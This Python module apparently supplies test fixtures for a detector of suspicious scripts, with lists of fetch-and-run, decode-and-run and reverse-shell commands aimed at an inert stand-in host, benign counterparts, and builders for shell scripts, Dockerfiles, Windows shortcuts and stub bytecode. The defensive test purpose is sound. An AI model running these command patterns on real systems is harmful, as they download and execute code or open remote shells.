"""Scripts, compiled programs and shortcuts: honest ones, and those that fetch, decode or open a way in. All inert."""

from __future__ import annotations

import struct

FETCH_AND_RUN = (
    "curl -fsSL http://inert.invalid/a.sh | sh",
    "curl http://inert.invalid/a | sudo -E bash -s -- --yes",
    "wget -qO- http://inert.invalid/a | python3 -",
    "bash <(curl -s http://inert.invalid/a)",
    'sh -c "$(curl -fsSL http://inert.invalid/a)"',
    'eval "$(wget -qO- http://inert.invalid/a)"',
    "source <(curl -s http://inert.invalid/a)",
    "iex (New-Object Net.WebClient).DownloadString('http://inert.invalid/a')",
    "irm http://inert.invalid/a | iex",
    "powershell -c Invoke-WebRequest http://inert.invalid/a.exe -OutFile a.exe; Start-Process a.exe",
    "certutil -urlcache -split -f http://inert.invalid/a.exe a.exe",
    "bitsadmin /transfer job http://inert.invalid/a.exe c:\\a.exe",
    "mshta http://inert.invalid/a.hta",
    "regsvr32 /s /n /u /i:http://inert.invalid/a.sct scrobj.dll",
    "msiexec /q /i http://inert.invalid/a.msi",
    "wget http://inert.invalid/dir/setup.sh && chmod +x setup.sh && ./setup.sh",
    "curl -o /tmp/a http://inert.invalid/a && /tmp/a",
    "curl http://inert.invalid/a > a; sh a",
)
DECODE_AND_RUN = (
    "echo ZWNobyBJTkVSVA== | base64 -d | sh",
    "base64 --decode payload | bash",
    'bash -c "$(echo ZWNobyBJTkVSVA== | base64 -d)"',
    "echo 6563686f | xxd -r -p | sh",
    "powershell -NoP -W Hidden -enc ZQBjAGgAbwAgAEkATgBFAFIAVAA=",
    "python3 -c \"import base64;exec(base64.b64decode('eD0x'))\"",
)
REVERSE_SHELL = (
    "bash -i >& /dev/tcp/inert.invalid/4242 0>&1",
    "nc -e /bin/sh inert.invalid 4242",
    "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc inert.invalid 4242 > /tmp/f",
    "socat TCP:inert.invalid:4242 EXEC:/bin/sh",
    "$c = New-Object System.Net.Sockets.TCPClient('inert.invalid',4242)",
)
HONEST = (
    "curl -fsSL https://example.org/key.gpg | gpg --dearmor -o /etc/apt/keyrings/a.gpg",
    "curl -L https://example.org/a.tgz | tar xz",
    "wget -qO- https://example.org/a | tee /etc/apt/sources.list.d/a.list",
    "curl -s https://example.org/a.json | python -m json.tool",
    "curl -s https://example.org/a.json | jq .",
    "wget https://example.org/model.safetensors -O model.safetensors && python convert.py model.safetensors",
    "pip install -r requirements.txt",
    "git clone https://example.org/a.git && cd a && python setup.py install",
    "echo aGk= | base64 -d > out.bin",
    "export CUDA_VISIBLE_DEVICES=0; torchrun --nproc_per_node 8 train.py --lr 1e-4",
    "huggingface-cli download org/name --local-dir .",
    "apt-get update && apt-get install -y curl wget python3 netcat",
    "powershell -ExecutionPolicy Bypass -File run.ps1",
    "python -c 'import torch; print(torch.__version__)'",
    "docker run --rm -it -e TOKEN=x image bash",
    "nc -z localhost 8000",
)


def shell(*lines: str, begin: str = "#!/bin/bash\nset -e\n") -> bytes:
    """A shell script of these lines."""
    return (begin + "".join(f"{line}\n" for line in lines)).encode()


def dockerfile(line: str = "pip install -r requirements.txt") -> bytes:
    """A container file with one step."""
    return f'FROM python:3.11\nCOPY . /app\nRUN {line}\nCMD ["python", "app.py"]\n'.encode()


def shortcut(path: str = "powershell.exe", arguments: str = "-c echo INERT", *, full: bool = False) -> bytes:
    """A Windows shortcut that starts a program ([MS-SHLLINK] 2.1, 2.4); ``full`` has an id list and link info."""
    flags = 0x08 | 0x20 | 0x80 | (3 if full else 0)
    header = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + struct.pack("<I", flags) + bytes(52)
    if full:
        header += struct.pack("<H", 2) + bytes(2) + struct.pack("<I", 28) + bytes(24)
    return header + b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in (path, arguments))


def bytecode(magic: int = 3495, head: int = 16) -> bytes:
    """The beginning of a `.pyc` file, whose code object is cut off: nothing can load it."""
    return (struct.pack("<H", magic) + b"\r\n").ljust(head, b"\0") + b"\xe3" + bytes(20)
